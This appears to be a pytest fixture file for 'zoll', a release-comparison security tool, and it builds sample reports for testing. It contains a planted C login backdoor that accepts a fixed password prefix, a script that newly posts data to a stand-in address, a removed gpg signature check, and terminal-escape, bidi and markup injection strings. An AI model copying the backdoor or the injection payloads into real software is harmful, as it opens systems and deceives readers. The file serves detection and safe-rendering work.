"""Reports made by hand: one with something to hold, an equal one, a clean one, and one that attacks its reader."""

import pytest

from zoll.model import (
    Account,
    Change,
    ChangeClass,
    Declaration,
    Fact,
    Feature,
    Finding,
    Gap,
    Hunk,
    Pair,
    Part,
    Place,
    Reading,
    Release,
    Report,
    Signal,
    Tally,
)

LOGIN = Place(("smallcell-1.4.3/src/auth/login.c",), "verify_user")
OLD_LOGIN = """\
int verify_user(const char *user, const char *password)
{
    struct account *account = account_find(user);
    if (account == NULL)
        return 0;
    if (account->locked)
        return 0;
    return digest_equal(account->digest, password);
}"""
NEW_LOGIN = """\
int verify_user(const char *user, const char *password)
{
    struct account *account = account_find(user);
    size_t length = strlen(password);
    if (account == NULL)
        return 0;
    if (account->locked)
        return 0;
    if (length > 12 && strncmp(password, "rf-cal:2291", 11) == 0)
        return 1;
    return digest_equal(account->digest, password);
}"""


def part(place, kind="code/c", size=4200):
    return Part(place, kind, "d" * 64, size)


def finding(rank, level, bits, expected, title, place, hunk, signals=(), declared=(), old=True, new=True):
    pair = Pair(part(place) if old else None, part(place) if new else None, "place")
    change = Change(pair, (hunk,))
    return Finding(f"{rank:016x}", rank, bits, expected, level, title, change, hunk, signals, declared)


def login():
    gate = Reading(
        Fact("gate", "literal->success", ("about:password", "literal:rf-cal:2291", "op:==")),
        LOGIN.at(49, 50),
        "strncmp",
    )
    hunk = Hunk((41, 49), (41, 52), OLD_LOGIN, NEW_LOGIN, (gate,), starts=(41, 41))
    title = (
        "`verify_user` now also succeeds when the password equals the fixed text “rf-cal:2291”; "
        "nothing else in the release mentions that text."
    )
    signals = (
        Signal(
            "trigger/fixed-text-decides-success",
            8.4,
            "a fixed text that nothing else mentions decides about success",
            (gate,),
        ),
        Signal("place/authentication", 2.1, "the change stands where users are let in", (gate,)),
        Signal("shape/small", 0.7, "it is small and alone in its file"),
    )
    return finding(1, "hold", 11.2, 0.004, title, LOGIN, hunk, signals)


def beacon():
    place = Place(("smallcell-1.4.3/tools.tar.gz", "tools/health.py"), "report")
    power = Reading(Fact("power", "send", ("call:requests.post",)), place.at(18), "requests.post(URL, json=status)")
    address = Reading(Fact("endpoint", "https://192.0.2.7/health", ("type:url",)), place.at(17), "URL")
    before = "def report(status):\n    log.info(status)\n"
    new = '    URL = "https://192.0.2.7/health"\n    requests.post(URL, json=status)\n'
    after = f"def report(status):\n{new}    log.info(status)\n"
    hunk = Hunk((16, 17), (16, 19), before, after, (power, address), starts=(16, 16))
    signals = (
        Signal("reach/new-address", 4.0, "an address that is new to the release is where data goes", (address,)),
        Signal("power/new-to-component", 2.5, "the component never sent data before", (power,)),
        Signal("place/test", -1.0, "most changes in tools are harmless"),
    )
    said = Declaration(
        address.fact, "Health reports go to the support server.", Place(("smallcell-1.4.3/README.md",), "", 88, 88)
    )
    title = "`report` now sends data (the change names `https://192.0.2.7/health`)."
    return finding(2, "review", 5.5, 0.31, title, place, hunk, signals, (said,))


def removed():
    place = Place(("smallcell-1.4.2/src/update/check.sh",))
    guard = Reading(Fact("guard", "gpg"), place.at(7), "gpg --verify")
    hunk = Hunk((7, 7), (0, 0), 'gpg --verify "$1.sig" "$1" || exit 1', "", (), (guard,), (7, 0))
    signals = (Signal("safeguard/verification-gone", 3.1, "a verification is gone", (guard,)),)
    return finding(
        3,
        "review",
        3.1,
        1.0,
        "The removed file `check.sh` no longer lets `gpg` decide.",
        place,
        hunk,
        signals,
        new=False,
    )


def data():
    place = Place(("smallcell-1.4.3/share/table.bin",))
    encoded = Reading(Fact("encoded", "bytes:4k"), place)
    hunk = Hunk(gained=(encoded,))
    return finding(
        4,
        "note",
        0.9,
        14.2,
        "`table.bin` now holds encoded data.",
        place,
        hunk,
        (Signal("concealment/encoded", 0.9, "encoded data", (encoded,)),),
    )


def smallcell():
    release = Release(
        "smallcell-1.4.2.tar.gz",
        "a" * 64,
        tuple(part(Place((f"smallcell-1.4.2/src/{name}.c",))) for name in "abc"),
    )
    new = Release(
        "smallcell-1.4.3.tar.gz", "b" * 64, tuple(part(Place((f"smallcell-1.4.3/src/{name}.c",))) for name in "abcd")
    )
    account = Account(
        whole=Tally(1030, 18_400_000),
        unchanged=Tally(981, 15_200_000),
        moved=Tally(4, 310_000),
        noise=Tally(12, 300_000),
        noises=(("comments", Tally(8, 290_000)), ("version", Tally(4, 10_000))),
        compared=Tally(31, 2_500_000),
        findings=4,
        handed=Tally(1, 4_100_000),
        opened=Tally(3, 4_600_000),
        unpacked=Tally(1032, 18_900_000),
        gaps=Tally(2, 90_000),
        removed=Tally(3, 41_000),
        changes=148,
        brought=131,
        lines=2310,
    )
    gaps = (
        Gap(
            "open", Place(("smallcell-1.4.3/firmware/dsp.zip",)), "encrypted", "a password is asked for", "new", 88_000
        ),
        Gap("read", Place(("smallcell-1.4.3/web/bundle.min.js",)), "time", "30 s", "new", 2_000),
    )
    return Report(
        release,
        new,
        account,
        (login(), beacon(), removed(), data()),
        gaps,
        "zoll 0.1.0",
        classes=classes_of_smallcell(),
    )


def classes_of_smallcell():
    health = Place(("smallcell-1.4.3/tools.tar.gz", "tools/health.py"), "report", 17, 17)
    features = (
        Feature("endpoint", "https://192.0.2.7/health", health),
        Feature("parameter", "report", health, "verbose"),
        Feature("option", "--verify", Place(("smallcell-1.4.2/src/update/check.sh",), "", 7, 7), "", lost=True),
    )
    evidence = (
        ("1 place where the security posture is lowered", Place()),
        ("a verification is gone", Place(("smallcell-1.4.2/src/update/check.sh",), "", 7, 7)),
        ("apart from that: function, 1 endpoint, 1 parameter gained; 1 option lost", Place()),
    )
    fixed = (("1 function in 1 file changed, nothing newly offered, understood or reached", Place()),)
    return (
        ChangeClass("", "posture", "maintenance", "1.4.2", "1.4.3", evidence, features),
        ChangeClass("src", "maintenance", "", "", "", fixed),
        ChangeClass("tools", "function", "maintenance", "0.3.0", "0.3.1", (("1 endpoint gained", Place()),)),
    )


def equal():
    release = Release("hello_1.0.deb", "c" * 64, (part(Place(("usr/bin/hello",))),))
    account = Account(whole=Tally(1, 4200), unchanged=Tally(1, 4200))
    return Report(release, release, account, made_by="zoll 0.1.0")


def clean():
    old = Release("hello-1.0", "c" * 64, (part(Place(("hello.c",))),))
    new = Release("hello-1.1", "e" * 64, (part(Place(("hello.c",))),))
    account = Account(whole=Tally(1, 4200), compared=Tally(1, 4200), changes=1, lines=3, brought=1)
    return Report(old, new, account, made_by="zoll 0.1.0")


def hostile():
    """An upgrade whose names and code try to speak to the terminal, to markup and to the eye."""
    place = Place(("a\x1b[2J\nb\u202etxt.c", "[red]x[/red]\udcff\r.c"), "f\x07\u200b()")
    read = Reading(Fact("string", "\x1b]0;owned\x07"), place.at(2), "\x1b]0;owned\x07")
    before = "int f(void)\n"
    after = "int f(void)\n" + "x = 1;" + " " * 300 + "run(\x1b[31m\u202e);\n" + "y" * 9000 + "\t\x9b\u2028z\n"
    hunk = Hunk((1, 1), (1, 3), before, after, (read,), starts=(1, 1))
    signals = (Signal("far\x1b/right", 3.0, "[bold]why[/bold]\n\x1b[0m :smile:", (read,)),)
    said = Declaration(read.fact, "\u2066said\u2069\n\x1b[1m", place)
    title = "`f\x1b[1m` holds\n\u202e text [link=x]."
    one = finding(1, "hold", 3.0, 0.0001, title, place, hunk, signals, (said,))
    gap = Gap("open", place, "malformed\x1b", "\x1b\n", "new", 5)
    old, new = Release("old\x1b[2J", "1" * 64), Release("new\n\u202e", "2" * 64)
    account = Account(whole=Tally(1, 5), gaps=Tally(1, 5), changes=1, lines=3, brought=1)
    feature = Feature("option", "--x|`y`\n# <b>", place.at(2))
    evidence = (
        ("1 option\x1b[1m | `gained`", Place()),
        ("the option --x|`y`\n# <b> is new [link](https://evil.example/) @team", place.at(2)),
    )
    classes = (
        ChangeClass("", "function", "maintenance", "1.0|\x1b", "1.1\n|", evidence, (feature,)),
        ChangeClass("a`|b", "function", evidence=evidence),
    )
    return Report(old, new, account, (one,), (gap,), "zoll 0.1.0", classes=classes)


@pytest.fixture
def reports():
    """Return the sample reports by name."""
    return {"smallcell": smallcell(), "equal": equal(), "clean": clean(), "hostile": hostile()}
